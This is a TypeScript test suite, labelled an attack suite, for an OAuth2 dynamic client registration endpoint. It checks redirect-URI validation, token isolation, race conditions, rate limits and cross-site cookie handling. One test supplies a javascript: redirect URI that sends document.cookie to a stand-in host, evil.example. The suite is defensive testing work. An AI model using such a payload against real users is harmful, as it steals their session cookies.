import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { issueKey } from '../src/apikeys/index.ts';
import { useTestDatabase } from './kit/database.ts';
import { startTestServer, type TestServer } from './kit/server.ts';
import { type StoreKit, storeKit } from './kit/store.ts';

// OA-2 attack suite: registration and its management cannot be turned against anyone.

const db = useTestDatabase();
let server: TestServer;
let limited: TestServer;
let kit: StoreKit;

beforeAll(async () => {
  kit = storeKit(db.url);
  server = await startTestServer(db.url, { config: { rateLimitOauth2Register: 0 } });
  limited = await startTestServer(db.url, { config: { rateLimitOauth2Register: 3 } });
});
afterAll(async () => {
  await server?.close();
  await limited?.close();
  await kit?.close();
});

type Json = Record<string, unknown>;
const MCP_CLIENT = { redirect_uris: ['http://127.0.0.1:8765/callback'], token_endpoint_auth_method: 'none' };

async function register(body: unknown, s = server, headers: Record<string, string> = {}) {
  const res = await s.request('/oauth2/register', {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify(body),
  });
  return { res, body: (await res.json()) as Json };
}

describe('registration refuses dangerous redirect URIs', () => {
  it('a javascript: URI, even for a native app', async () => {
    const { res, body } = await register({
      ...MCP_CLIENT,
      application_type: 'native',
      redirect_uris: ['javascript:fetch("https://evil.example/?"+document.cookie)'],
    });
    expect(res.status).toBe(400);
    expect(body.error).toBe('invalid_redirect_uri');
  });

  it('a non-loopback http URI, even for a native app', async () => {
    const { res, body } = await register({
      ...MCP_CLIENT,
      application_type: 'native',
      redirect_uris: ['http://evil.example/callback'],
    });
    expect(res.status).toBe(400);
    expect(body.error).toBe('invalid_redirect_uri');
  });

  it('one bad URI among good ones refuses the whole registration', async () => {
    const { res } = await register({
      ...MCP_CLIENT,
      redirect_uris: ['https://ok.example/cb', 'data:text/html,x'],
    });
    expect(res.status).toBe(400);
  });
});

describe('the registration access token (RFC 7592)', () => {
  const get = (clientId: string, headers: Record<string, string>) =>
    server.request(`/oauth2/register/${encodeURIComponent(clientId)}`, { headers });

  it('an unknown client and a wrong token are the same 401 invalid_token', async () => {
    const { body } = await register(MCP_CLIENT);
    const wrong = await get(body.client_id as string, { authorization: 'Bearer lkrat_wrong' });
    const unknown = await get('lkc_00000000000000000000000000000000', {
      authorization: `Bearer ${body.registration_access_token}`,
    });
    for (const res of [wrong, unknown]) {
      expect(res.status).toBe(401);
      expect(res.headers.get('www-authenticate')).toBe('Bearer realm="latchkey", error="invalid_token"');
      expect(res.headers.get('cache-control')).toBe('no-store');
    }
    expect(await wrong.json()).toEqual(await unknown.json());
  });

  it('no token: 401 with a bare challenge', async () => {
    const { body } = await register(MCP_CLIENT);
    const res = await get(body.client_id as string, {});
    expect(res.status).toBe(401);
    expect(res.headers.get('www-authenticate')).toBe('Bearer realm="latchkey"');
    expect(await res.json()).toMatchObject({ error: 'invalid_token' });
  });

  it("one client's token does not open another client", async () => {
    const a = await register(MCP_CLIENT);
    const b = await register(MCP_CLIENT);
    const auth = { authorization: `Bearer ${a.body.registration_access_token}` };
    expect((await get(b.body.client_id as string, auth)).status).toBe(401);
    const del = await server.request(`/oauth2/register/${b.body.client_id}`, {
      method: 'DELETE',
      headers: auth,
    });
    expect(del.status).toBe(401);
    expect(
      (await get(b.body.client_id as string, { authorization: `Bearer ${b.body.registration_access_token}` }))
        .status,
    ).toBe(200);
  });

  it('an admin-created app cannot be managed through registration management', async () => {
    const app = await kit.raw.insertOAuth2App({
      clientId: 'lkc_admin_made',
      origin: 'admin',
      name: 'admin',
      applicationType: 'web',
      tokenEndpointAuthMethod: 'client_secret_basic',
      redirectUris: ['https://app.example/cb'],
      grantTypes: ['authorization_code'],
      responseTypes: ['code'],
      scope: '',
      metadata: {},
      registrationTokenHash: null,
      createdBy: null,
    });
    const res = await get(app.client_id, { authorization: 'Bearer anything' });
    expect(res.status).toBe(401);
  });

  it('PUT cannot change the client_id or prove itself with a wrong client_secret', async () => {
    const { body } = await register({ ...MCP_CLIENT, token_endpoint_auth_method: 'client_secret_basic' });
    const put = (payload: Json) =>
      server.request(`/oauth2/register/${body.client_id}`, {
        method: 'PUT',
        headers: {
          authorization: `Bearer ${body.registration_access_token}`,
          'content-type': 'application/json',
        },
        body: JSON.stringify(payload),
      });
    const other = await put({ ...MCP_CLIENT, client_id: 'lkc_someone_else' });
    expect(other.status).toBe(400);
    expect(await other.json()).toMatchObject({ error: 'invalid_client_metadata' });
    const badSecret = await put({ ...MCP_CLIENT, client_id: body.client_id, client_secret: 'lkcs_guess' });
    expect(badSecret.status).toBe(400);
    // Refused updates leave the token as it was.
    expect(
      (await get(body.client_id as string, { authorization: `Bearer ${body.registration_access_token}` }))
        .status,
    ).toBe(200);
  });

  it('of 20 concurrent updates with one token, exactly one wins (the token rotates once)', async () => {
    const { body } = await register(MCP_CLIENT);
    const results = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        server.request(`/oauth2/register/${body.client_id}`, {
          method: 'PUT',
          headers: {
            authorization: `Bearer ${body.registration_access_token}`,
            'content-type': 'application/json',
          },
          body: JSON.stringify({ ...MCP_CLIENT, client_id: body.client_id, client_name: `update ${i}` }),
        }),
      ),
    );
    const statuses = results.map((r) => r.status).sort();
    expect(statuses.filter((s) => s === 200)).toHaveLength(1);
    expect(statuses.filter((s) => s !== 200).every((s) => s === 401)).toBe(true);
  });
});

describe('rate limit', () => {
  it('registration is limited per client address, with an OAuth-format 429 that browsers can read', async () => {
    const statuses: number[] = [];
    let last: Response | undefined;
    for (let i = 0; i < 4; i++) {
      last = (await register(MCP_CLIENT, limited)).res;
      statuses.push(last.status);
    }
    expect(statuses).toEqual([201, 201, 201, 429]);
    const res = last as Response;
    expect(Number(res.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(res.headers.get('access-control-allow-origin')).toBe('*');
    const again = await limited.request('/oauth2/register', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(MCP_CLIENT),
    });
    expect(await again.json()).toMatchObject({
      error: 'temporarily_unavailable',
      error_description: expect.stringContaining('At most 3 requests a minute'),
    });
  });

  it('management calls are not counted against registration', async () => {
    const res = await limited.request('/oauth2/register/lkc_x', { headers: { authorization: 'Bearer x' } });
    expect(res.status).toBe(401);
  });
});

describe('cookies play no part', () => {
  it('a cross-site POST carrying a session cookie is neither refused by the CSRF check nor made as the user', async () => {
    const user = await kit.user('cookieuser', { siteRoles: ['owner'] });
    const session = await issueKey(kit.raw, {
      userId: user.id,
      name: '',
      loginType: 'password',
      scopes: ['latchkey:all'],
      allowList: ['*:*'],
      lifetimeMs: 3_600_000,
      now: new Date(),
    });
    const { res, body } = await register(MCP_CLIENT, server, {
      cookie: `latchkey_session=${session.token}`,
      origin: 'https://evil.example',
    });
    expect(res.status).toBe(201);
    const app = await kit.raw.getOAuth2AppByClientId({ clientId: body.client_id as string });
    expect(app?.created_by).toBeNull();
  });
});
